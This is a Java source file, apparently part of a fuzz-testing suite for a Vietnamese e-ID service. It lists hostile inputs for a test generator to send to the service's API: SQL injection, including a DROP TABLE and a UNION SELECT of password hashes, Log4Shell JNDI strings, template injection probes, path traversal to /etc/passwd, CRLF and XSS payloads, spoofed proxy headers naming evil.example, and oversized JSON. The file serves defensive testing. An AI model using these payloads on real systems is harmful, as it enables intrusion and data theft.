package vn.gov.eid.system.hostile;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

/**
 * The hostile values the generator combines with each operation: injection-shaped and odd strings, wrong JSON
 * types, huge and deeply nested values, malformed bodies, bad path segments, query values and header values.
 * Each has a short name for the report. None is a personal ID number that could belong to anyone (every 12-digit
 * value has an unassigned province code), so no mutation turns a refused submission into an accepted one.
 */
final class HostileValues {

    private HostileValues() {}

    static final String HUGE_ASCII = "A".repeat(100 * 1024);
    /** 100 KB of a three-byte Vietnamese letter. */
    static final String HUGE_VIETNAMESE = "\u1ec7".repeat(100 * 1024 / 3);

    static final String LONG_SEGMENT = "x".repeat(2000);

    /** Text values (written as JSON strings, form values, escaped path segments and query values). */
    static final Map<String, String> STRINGS = ordered(
            "sql-or", "' OR '1'='1",
            "sql-drop", "'; DROP TABLE dossier; --",
            "sql-union", "x' UNION SELECT password_hash FROM staff_user --",
            "sql-sleep", "1' AND pg_sleep(0) IS NULL --",
            "sql-dquote", "\" OR \"\"=\"",
            "sql-like", "%_%",
            "jndi", "${jndi:ldap://x.invalid/a}",
            "jndi-nested", "${${lower:j}ndi:${lower:l}dap://x.invalid/a}",
            "el", "#{7*7}${7*7}",
            "template", "{{7*7}}<%= 7*7 %>",
            "format", "%s%s%s%s%n%x",
            "traversal", "../../../../etc/passwd",
            "traversal-win", "..\\..\\..\\windows\\win.ini",
            "file-url", "file:///etc/passwd",
            "crlf", "line\r\nX-Injected: 1",
            "nul", "\u0000",
            "nul-inside", "a\u0000b",
            "control", "\u0007\u001b[31m\u007f",
            "rtl-override", "\u202egnp.exe",
            "bom", "\ufeffBOM",
            "emoji", "\ud83d\udca9",
            "lone-surrogate", "\ud800",
            "combining", "e\u0301\u0301\u0301\u0301",
            "fullwidth", "\uff21\uff22\uff23\uff11\uff12\uff13",
            "fullwidth-digits-pid", "\uff10\uff10\uff11\uff12\uff10\uff13\uff10\uff11\uff12\uff13\uff14\uff15",
            "case-folding", "\u0130\u0131\u017fK",
            "separators", "\u00a0\u2028\u2029",
            "noncharacter", "\uffff\ufffe",
            "html", "<script>alert(1)</script>",
            "json-breakout", "\"}]},{\"x\":\"",
            "backslash", "\\",
            "empty", "",
            "blank", "   ",
            "tab-newline", "\t\n",
            "null-word", "null",
            "nan-word", "NaN",
            "minus-zero", "-0",
            "hex", "0x1F",
            "exponent", "1e309",
            "int-max", "2147483647",
            "int-overflow", "2147483648",
            "long-overflow", "9223372036854775808",
            "pid-with-nul", "001203012345\u0000",
            "pid-padded", " 001203012345 ",
            "pid-bad-province", "999999999999",
            "uuid-nil", "00000000-0000-0000-0000-000000000000",
            "date-invalid", "2003-02-30",
            "date-year-overflow", "+1000000000-01-01",
            "instant-overflow", "+1000000000-01-01T00:00:00Z",
            "instant-min", "-999999999-01-01T00:00:00Z",
            "long-2000", LONG_SEGMENT,
            "huge-100kb", HUGE_ASCII,
            "huge-100kb-utf8", HUGE_VIETNAMESE);

    /** JSON fragments of other types than the schema wants, numbers out of every range, deep and big values. */
    static final Map<String, String> JSON_FRAGMENTS = ordered(
            "zero", "0",
            "negative", "-1",
            "int-max", "2147483647",
            "int-overflow", "2147483648",
            "int-underflow", "-2147483649",
            "long-overflow", "9223372036854775808",
            "double-overflow", "1e400",
            "double-underflow", "-1e400",
            "tiny", "1E-400",
            "fraction", "1.5",
            "minus-zero", "-0.0",
            "digits-2000", "9".repeat(2000),
            "true", "true",
            "null", "null",
            "object", "{}",
            "array", "[]",
            "array-of-null", "[null]",
            "operator-object", "{\"$gt\":\"\",\"$where\":\"1\"}",
            "proto", "{\"__proto__\":{\"admin\":true}}",
            "deep-array", "[".repeat(3000) + "]".repeat(3000),
            "deep-object", "{\"a\":".repeat(3000) + "1" + "}".repeat(3000),
            "wide-array", "[" + "0,".repeat(100_000) + "0]",
            "wide-object", wideObject(20_000));

    /** Whole bodies that are not JSON, or JSON of no use. */
    static List<Map.Entry<String, byte[]>> malformedBodies(String validBody) {
        List<Map.Entry<String, byte[]>> bodies = new ArrayList<>();
        add(bodies, "empty", "");
        add(bodies, "open-brace", "{");
        add(bodies, "close-brace", "}");
        add(bodies, "open-bracket", "[");
        add(bodies, "truncated", validBody.substring(0, validBody.length() / 2));
        add(bodies, "missing-colon", "{\"type\" \"ISSUE\"}");
        add(bodies, "lone-comma", "{,}");
        add(bodies, "trailing-comma", "[1,]");
        add(bodies, "single-quotes", "{'type':'ISSUE'}");
        add(bodies, "extra-brace", validBody + "}");
        add(bodies, "two-documents", validBody + " " + validBody);
        add(bodies, "trailing-garbage", validBody + "x");
        add(bodies, "bom", "\ufeff" + validBody);
        add(bodies, "comment", "/* c */" + validBody);
        add(bodies, "line-comment", "// c\n" + validBody);
        add(bodies, "nan", "{\"a\":NaN}");
        add(bodies, "infinity", "{\"a\":-Infinity}");
        add(bodies, "bad-escape", "{\"a\":\"\\uZZZZ\"}");
        add(bodies, "duplicate-keys", duplicateFirstMember(validBody));
        add(bodies, "null", "null");
        add(bodies, "number", "0");
        add(bodies, "string", "\"\"");
        add(bodies, "array", "[]");
        add(bodies, "array-of-body", "[" + validBody + "]");
        add(bodies, "deep-unclosed", "[".repeat(100_000));
        add(bodies, "deep-closed", "{\"a\":".repeat(5000) + "1" + "}".repeat(5000));
        add(bodies, "wide-array", "[" + "0,".repeat(100_000) + "0]");
        bodies.add(Map.entry("raw-nul", withRaw(validBody, new byte[] {0})));
        bodies.add(Map.entry("invalid-utf8", withRaw(validBody, new byte[] {(byte) 0xc3, 0x28})));
        bodies.add(Map.entry("overlong-utf8", withRaw(validBody, new byte[] {(byte) 0xc0, (byte) 0xaf})));
        bodies.add(Map.entry("utf16", validBody.getBytes(StandardCharsets.UTF_16)));
        return bodies;
    }

    /** Path segments as sent: escaped strings plus odd raw forms. */
    static Map<String, String> pathSegments() {
        Map<String, String> segments = new java.util.LinkedHashMap<>();
        segments.put("not-a-uuid", "not-a-uuid");
        segments.put("zero", "0");
        segments.put("negative", "-1");
        segments.put("int-overflow", "2147483648");
        segments.put("uuid-nil", "00000000-0000-0000-0000-000000000000");
        segments.put("uuid-max", "ffffffff-ffff-ffff-ffff-ffffffffffff");
        segments.put("uuid-bad-char", "00000000-0000-0000-0000-00000000000g");
        segments.put("uuid-braces", "%7B00000000-0000-0000-0000-000000000000%7D");
        segments.put("encoded-slash", "a%2Fb");
        segments.put("encoded-traversal", "..%2F..%2F..%2Fetc%2Fpasswd");
        segments.put("double-encoded", "%252e%252e%252f");
        segments.put("dot-dot", "..");
        segments.put("dot", ".");
        segments.put("empty", "");
        segments.put("matrix", "x;a=b");
        segments.put("overlong-utf8", "%C0%AF");
        segments.put("surrogate-utf8", "%ED%A0%80");
        segments.put("encoded-nul", "a%00b");
        segments.put("encoded-crlf", "a%0D%0AX-Injected:%201");
        segments.put("long-2000", LONG_SEGMENT);
        for (String name : List.of(
                "sql-or",
                "sql-drop",
                "jndi",
                "traversal",
                "el",
                "rtl-override",
                "emoji",
                "html",
                "fullwidth-digits-pid",
                "pid-bad-province",
                "pid-padded",
                "int-max",
                "long-overflow")) {
            segments.put(name, escape(STRINGS.get(name)));
        }
        return segments;
    }

    /** Query values as sent (escaped), the huge ones left out (the URI limit is a test of its own). */
    static Map<String, String> queryValues() {
        Map<String, String> values = new java.util.LinkedHashMap<>();
        STRINGS.forEach((name, value) -> {
            if (value.length() <= LONG_SEGMENT.length()) {
                values.put(name, escape(value));
            }
        });
        values.put("negative", "-1");
        values.put("int-min", "-2147483648");
        values.put("fraction", "1.5");
        values.put("digits-30", "9".repeat(30));
        values.put("instant-bad", "2026-13-45T99:99:99Z");
        values.put("instant-max", "9999-12-31T23:59:59.999999999Z");
        values.put("instant-local", "2026-01-01T00:00:00");
        values.put("plus-as-space", "a+b");
        return values;
    }

    /** Values for headers the services read (Idempotency-Key, If-Match) and generic odd ones. */
    static Map<String, byte[]> headerValues(String header) {
        Map<String, byte[]> values = new java.util.LinkedHashMap<>();
        put(values, "empty", "");
        put(values, "blank", "   ");
        put(values, "long-201", "k".repeat(201));
        put(values, "long-8000", "k".repeat(8000));
        put(values, "sql-or", STRINGS.get("sql-or"));
        put(values, "jndi", STRINGS.get("jndi"));
        put(values, "traversal", STRINGS.get("traversal"));
        put(values, "html", STRINGS.get("html"));
        values.put("utf8", "kh\u00f3a-\u1ec7-\ud83d\udca9".getBytes(StandardCharsets.UTF_8));
        values.put("latin1", new byte[] {'k', (byte) 0xe9, 'y'});
        put(values, "tab", "a\tb");
        if (header.equalsIgnoreCase("If-Match")) {
            put(values, "unquoted", "garbage");
            put(values, "negative", "\"-1\"");
            put(values, "int-overflow", "\"2147483648\"");
            put(values, "long-overflow", "\"99999999999999999999\"");
            put(values, "weak", "W/\"0\"");
            put(values, "star", "*");
            put(values, "list", "\"0\", \"1\"");
            put(values, "lone-quote", "\"");
            put(values, "empty-quotes", "\"\"");
            put(values, "quoted-jndi", "\"" + STRINGS.get("jndi") + "\"");
        }
        return values;
    }

    static final Map<String, String> ACCEPT = ordered(
            "csv", "text/csv",
            "xml", "application/xml",
            "bad-q", "*/*;q=abc",
            "empty", "",
            "json-q0", "application/json;q=0",
            "html", "text/html",
            "long", "a/b, ".repeat(800),
            "odd-charset", "application/json;charset=EBCDIC");

    static final Map<String, String> CONTENT_TYPES = ordered(
            "text", "text/plain",
            "xml", "application/xml",
            "form", "application/x-www-form-urlencoded",
            "multipart", "multipart/form-data; boundary=x",
            "json-utf16", "application/json; charset=utf-16",
            "json-ebcdic", "application/json; charset=EBCDIC",
            "json-unknown-charset", "application/json; charset=nonsense",
            "three-parts", "a/b/c",
            "empty", "",
            "semicolons", "application/json;;;=",
            "problem", "application/problem+json",
            "list", "application/json, text/plain");

    /** Headers nobody asked for that proxies, caches and old frameworks read. */
    static final Map<String, String> ODD_HEADERS = ordered(
            "X-Forwarded-For", "' OR 1=1 --, 127.0.0.1",
            "X-Forwarded-Host", "evil.example",
            "Forwarded", "for=\"[::1]\";host=evil.example;proto=gopher",
            "X-HTTP-Method-Override", "DELETE",
            "Range", "bytes=0-0,-1",
            "Origin", "https://evil.example",
            "Content-Encoding", "gzip");

    /**
     * Percent-escapes everything but unreserved characters, as UTF-8; an unpaired surrogate becomes the three bytes
     * a careless encoder would write for it (not valid UTF-8), rather than the {@code ?} URLEncoder makes of it.
     */
    static String escape(String value) {
        StringBuilder sb = new StringBuilder();
        for (int i = 0; i < value.length(); ) {
            int c = value.codePointAt(i);
            i += Character.charCount(c);
            if (c < 0x80 && (Character.isLetterOrDigit(c) || "-._~".indexOf(c) >= 0)) {
                sb.append((char) c);
                continue;
            }
            byte[] bytes = Character.isSurrogate((char) c)
                    ? new byte[] {(byte) (0xe0 | c >> 12), (byte) (0x80 | (c >> 6) & 0x3f), (byte) (0x80 | c & 0x3f)}
                    : new String(Character.toChars(c)).getBytes(StandardCharsets.UTF_8);
            for (byte b : bytes) {
                sb.append('%').append(String.format("%02X", b & 0xff));
            }
        }
        return sb.toString();
    }

    private static void put(Map<String, byte[]> values, String name, String value) {
        values.put(name, value.getBytes(StandardCharsets.UTF_8));
    }

    private static void add(List<Map.Entry<String, byte[]>> bodies, String name, String body) {
        bodies.add(Map.entry(name, body.getBytes(StandardCharsets.UTF_8)));
    }

    /** The body with raw bytes put inside its first string value (or at its end if it has none). */
    private static byte[] withRaw(String body, byte[] raw) {
        int quote = body.indexOf('"', body.indexOf(':') + 1);
        byte[] head = body.substring(0, quote + 1).getBytes(StandardCharsets.UTF_8);
        byte[] tail = body.substring(quote + 1).getBytes(StandardCharsets.UTF_8);
        byte[] all = new byte[head.length + raw.length + tail.length];
        System.arraycopy(head, 0, all, 0, head.length);
        System.arraycopy(raw, 0, all, head.length, raw.length);
        System.arraycopy(tail, 0, all, head.length + raw.length, tail.length);
        return all;
    }

    private static String duplicateFirstMember(String body) {
        int end = body.indexOf(',');
        if (!body.startsWith("{") || end < 0) {
            return "{\"a\":1,\"a\":2}";
        }
        return body.substring(0, end) + "," + body.substring(1);
    }

    private static String wideObject(int members) {
        StringBuilder sb = new StringBuilder("{");
        for (int i = 0; i < members; i++) {
            sb.append(i == 0 ? "" : ",").append("\"k").append(i).append("\":0");
        }
        return sb.append('}').toString();
    }

    private static Map<String, String> ordered(String... pairs) {
        Map<String, String> map = new java.util.LinkedHashMap<>();
        for (int i = 0; i < pairs.length; i += 2) {
            map.put(pairs[i], pairs[i + 1]);
        }
        return java.util.Collections.unmodifiableMap(map);
    }
}
